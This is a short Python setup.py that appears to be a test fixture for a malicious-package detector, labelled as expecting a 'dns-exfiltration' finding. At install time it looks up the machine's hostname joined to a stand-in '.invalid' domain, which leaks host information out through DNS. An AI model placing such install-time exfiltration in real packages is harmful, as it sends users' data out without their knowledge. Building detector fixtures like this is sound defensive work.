import socket
from setuptools import setup

name = socket.gethostname()
socket.gethostbyname(name + ".toy.example.invalid")  # expect: source/dns-exfiltration install conclusive
setup(name="toy")
